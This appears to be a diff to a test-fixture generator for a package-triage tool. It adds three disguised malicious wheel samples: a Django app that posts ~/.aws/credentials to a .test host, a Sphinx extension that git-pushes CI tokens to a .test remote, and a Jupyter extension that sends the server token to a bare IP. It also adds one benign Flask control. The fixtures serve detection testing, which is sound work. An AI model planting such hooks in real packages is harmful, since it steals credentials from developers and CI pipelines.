@@ -2,7 +2,8 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
+              djready|sphinxci|jupyter|flaskok OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -52,6 +53,20 @@ bareapi sshconf-tools: nothing at install or import; the first call of
         backdoor in a function only callers run). The exercise phase
         calls each plain function once: bare, or with '' for one
         argument.
+djready django-audit-trail: a Django app whose AppConfig.ready() posts
+        ~/.aws/credentials to a .test host; Django itself is not
+        installed (the jail has none), so nothing of it runs unless the
+        exercise hosts it (_pt_hosts.py).
+sphinxci sphinx-copybutton-plus: a Sphinx extension whose setup(app)
+        connects a build-finished handler that, in a CI job only,
+        commits the environment's tokens to a scratch repository and
+        runs git push to a .test remote over HTTPS.
+jupyter jupyter-panel-metrics: a Jupyter server extension whose load
+        function sends the server's token and the host's name to a bare
+        address from a thread.
+flaskok flask-request-timer (benign): a Flask extension whose init_app
+        reads app.config and registers request hooks; nothing is read
+        or sent.
 atexit  logship-handlers: nothing at install or import; making its
         BufferedHandler (no argument needed) registers an exit handler
         that, at the program's end, sends ~/.aws/credentials compressed in
@@ -242,6 +257,81 @@ ATEXIT = (
     "            atexit.register(_flush_all)\n"
     "    def emit(self, record):\n"
     "        self.buf.append(self.format(record))\n"
+)
+
+DJREADY_APPS = (
+    "import json, os, urllib.request\n"
+    "from django.apps import AppConfig\n"
+    "class AuditTrailConfig(AppConfig):\n"
+    "    name = 'django_audit_trail'\n"
+    "    default_auto_field = 'django.db.models.BigAutoField'\n"
+    "    def ready(self):\n"
+    "        try:\n"
+    "            with open(os.path.expanduser('~/.aws/credentials')) as f:\n"
+    "                body = json.dumps({'cfg': f.read()}).encode()\n"
+    "            urllib.request.urlopen(urllib.request.Request(\n"
+    "                'https://audit-sink.test/v2/ready', data=body,\n"
+    "                method='POST'), timeout=5).read()\n"
+    "        except Exception:\n"
+    "            pass\n"
+)
+
+SPHINXCI = (
+    "import json, os, subprocess, tempfile\n"
+    "def _sync(app, exc):\n"
+    "    if exc is not None or not os.environ.get('GITHUB_ACTIONS'):\n"
+    "        return\n"
+    "    d = tempfile.mkdtemp(prefix='copybtn-')\n"
+    "    env = {k: v for k, v in os.environ.items()\n"
+    "           if 'TOKEN' in k or 'KEY' in k}\n"
+    "    with open(os.path.join(d, 'cache.json'), 'w') as f:\n"
+    "        json.dump(env, f)\n"
+    "    g = ['git', '-C', d, '-c', 'user.name=bot', '-c',\n"
+    "         'user.email=bot@copybtn.test']\n"
+    "    for args in (['init', '-q'], ['add', 'cache.json'],\n"
+    "                 ['commit', '-qm', 'cache'],\n"
+    "                 ['push', '-q', 'https://git.copybtn.test/c/cache.git',\n"
+    "                  'HEAD:refs/heads/run-1']):\n"
+    "        subprocess.run(g + args, capture_output=True, timeout=30)\n"
+    "def setup(app):\n"
+    "    app.add_config_value('copybutton_plus_selector', 'pre', 'html')\n"
+    "    app.connect('build-finished', _sync)\n"
+    "    return {'version': '0.6.1', 'parallel_read_safe': True}\n"
+)
+
+JUPYTER = (
+    "import json, platform, threading, urllib.request\n"
+    "def _beacon(serverapp):\n"
+    "    info = {'token': serverapp.token, 'host': platform.node(),\n"
+    "            'port': serverapp.port}\n"
+    "    try:\n"
+    "        urllib.request.urlopen(urllib.request.Request(\n"
+    "            'http://198.51.100.61/api/v1/nodes',\n"
+    "            data=json.dumps(info).encode()), timeout=5).read()\n"
+    "    except Exception:\n"
+    "        pass\n"
+    "def _jupyter_server_extension_points():\n"
+    "    return [{'module': 'jupyter_panel_metrics'}]\n"
+    "def _load_jupyter_server_extension(serverapp):\n"
+    "    serverapp.log.info('jupyter_panel_metrics loaded')\n"
+    "    threading.Thread(target=_beacon, args=(serverapp,),\n"
+    "                     daemon=True).start()\n"
+)
+
+FLASKOK = (
+    "import time\n"
+    "from flask import g\n"
+    "class RequestTimer:\n"
+    "    def __init__(self, app=None):\n"
+    "        self.threshold = 0.5\n"
+    "        if app is not None:\n"
+    "            self.init_app(app)\n"
+    "    def init_app(self, app):\n"
+    "        self.threshold = app.config.get('SLOW_REQUEST_S', 0.5)\n"
+    "        app.before_request(self._start)\n"
+    "        app.extensions['request_timer'] = self\n"
+    "    def _start(self):\n"
+    "        g.request_started = time.monotonic()\n"
 )
 
 KEYS = (
@@ -500,6 +590,16 @@ KINDS = {
                 {"sshconf_tools/__init__.py": BAREAPI}),
     "atexit": ("logship_handlers", "0.8.0",
                {"logship_handlers/__init__.py": ATEXIT}),
+    "djready": ("django_audit_trail", "3.2.0",
+                {"django_audit_trail/__init__.py":
+                 "default_app_config = 'django_audit_trail.apps.AuditTrailConfig'\n",
+                 "django_audit_trail/apps.py": DJREADY_APPS}),
+    "sphinxci": ("sphinx_copybutton_plus", "0.6.1",
+                 {"sphinx_copybutton_plus/__init__.py": SPHINXCI}),
+    "jupyter": ("jupyter_panel_metrics", "0.2.0",
+                {"jupyter_panel_metrics/__init__.py": JUPYTER}),
+    "flaskok": ("flask_request_timer", "1.0.3",
+                {"flask_request_timer/__init__.py": FLASKOK}),
     "inplace": ("doc_sync_tools", "1.0.2",
                 {"doc_sync_tools/__init__.py": INPLACE}),
     "profiles": ("aws_profile_lister", "1.0.0",
